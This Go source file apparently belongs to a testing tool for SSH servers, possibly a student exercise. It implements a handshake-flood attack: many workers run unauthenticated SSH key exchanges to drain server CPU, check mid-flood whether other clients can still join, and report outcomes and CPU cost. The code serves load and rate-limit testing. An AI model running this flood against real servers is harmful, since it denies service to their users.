package main

import (
	"errors"
	"flag"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/expedition-llm/expedition/internal/procstat"
)

// setupHandshakes is the handshakes attack: a key exchange costs the server
// a signature and a key agreement before it knows who is asking.
func setupHandshakes(fs *flag.FlagSet) playFunc {
	duration := fs.Duration("duration", 10*time.Second, "how long to keep handshaking")
	workers := fs.Int("workers", 16, "connections handshaking at once")
	return func(tg *target, r *report) error {
		var (
			completed atomic.Int64 // key exchange done, authentication failed as meant
			preKex    atomic.Int64 // closed by the server before or during the key exchange
			postKex   atomic.Int64 // key exchange done, then closed before auth failed
			refused   atomic.Int64 // TCP connection refused or reset at once
			accepted  atomic.Int64 // the server let a client with no credentials in
			others    errFirst
		)
		cpu0, cpuErr := procstat.CPU(tg.pid)
		begin := time.Now()
		stop := begin.Add(*duration)
		var wg sync.WaitGroup
		// The limits that stop the flood are per address: halfway through,
		// a student from the attacker's address (a classmate behind the
		// same NAT) tries to join, and on loopback one from another
		// address (127.0.0.2) too.
		var during, elsewhere health
		other := otherLoopback(tg.addr)
		wg.Go(func() {
			time.Sleep(*duration / 2)
			during = checkHealth(tg.addr)
			if other != "" {
				elsewhere = checkHealthFrom(tg.addr, other)
			}
		})
		for range max(*workers, 1) {
			wg.Go(func() {
				for time.Now().Before(stop) {
					switch kexed, err := handshake(tg.addr); {
					case err == nil:
						accepted.Add(1)
					case isAuthFailure(err):
						completed.Add(1)
					case isRefused(err):
						refused.Add(1)
						// A refused dial returns at once: do not spin.
						time.Sleep(time.Millisecond)
					case kexed:
						postKex.Add(1)
					case isClosed(err):
						preKex.Add(1)
					default:
						others.add(err)
					}
				}
			})
		}
		wg.Wait()
		elapsed := time.Since(begin).Seconds()
		cpu1, cpuErr1 := procstat.CPU(tg.pid)
		r.addf("handshakes", "completed=%d (%.1f/s) closed_before_or_during_kex=%d closed_after_kex=%d tcp_refused=%d let_in=%d other_errors=%s",
			completed.Load(), float64(completed.Load())/elapsed, preKex.Load(), postKex.Load(), refused.Load(), accepted.Load(), &others)
		r.addf("during", "a student from the same address, halfway through: %s", during)
		if other != "" {
			r.addf("during", "a student from %s, halfway through: %s", other, elsewhere)
		}
		if tg.pid > 0 {
			if err := errors.Join(cpuErr, cpuErr1); err != nil {
				r.addf("cpu", "cannot read: %v", err)
			} else {
				used := cpu1 - cpu0
				r.addf("cpu", "server_cpu_s=%.2f in %.1f s = %.2f cores; %.1f ms per completed handshake",
					used, elapsed, used/elapsed, 1000*used/float64(max(completed.Load(), 1)))
			}
		}
		if accepted.Load() > 0 {
			return fmt.Errorf("%d connections with no credentials were let in", accepted.Load())
		}
		return nil
	}
}

// handshake dials addr and does a full SSH key exchange offering no way to
// authenticate, so the connection is worth nothing to the client: all it
// costs the server is the handshake. It reports whether the key exchange
// finished (the host key was presented and verified) and the error that
// ended the attempt.
func handshake(addr string) (kexed bool, err error) {
	nc, err := net.DialTimeout("tcp", addr, setupTimeout)
	if err != nil {
		return false, err
	}
	defer nc.Close()
	_ = nc.SetDeadline(time.Now().Add(setupTimeout))
	cfg := &gossh.ClientConfig{
		User: "handshake",
		// The host key callback runs once the server has proved it holds
		// the host key: the expensive part of the exchange is done.
		HostKeyCallback: func(string, net.Addr, gossh.PublicKey) error { kexed = true; return nil },
		Timeout:         setupTimeout,
	}
	cc, chans, reqs, err := gossh.NewClientConn(nc, addr, cfg)
	if err != nil {
		return kexed, err
	}
	_ = gossh.NewClient(cc, chans, reqs).Close()
	return kexed, nil
}

// otherLoopback is a loopback client address other than the one the tool
// dials from by default, when the server is on 127.0.0.1; else "".
func otherLoopback(addr string) string {
	host, _, err := net.SplitHostPort(addr)
	if err != nil || host != "127.0.0.1" {
		return ""
	}
	return "127.0.0.2"
}

// isAuthFailure reports the error NewClientConn returns when every
// authentication method (here only "none") was turned down.
func isAuthFailure(err error) bool {
	return strings.Contains(err.Error(), "unable to authenticate")
}

// isRefused reports a TCP connection the server's host turned down.
func isRefused(err error) bool {
	return errors.Is(err, syscall.ECONNREFUSED)
}

// isClosed reports a connection the server closed or reset.
func isClosed(err error) bool {
	return errors.Is(err, syscall.ECONNRESET) || errors.Is(err, syscall.EPIPE) ||
		strings.Contains(err.Error(), "EOF") || errors.Is(err, net.ErrClosed)
}
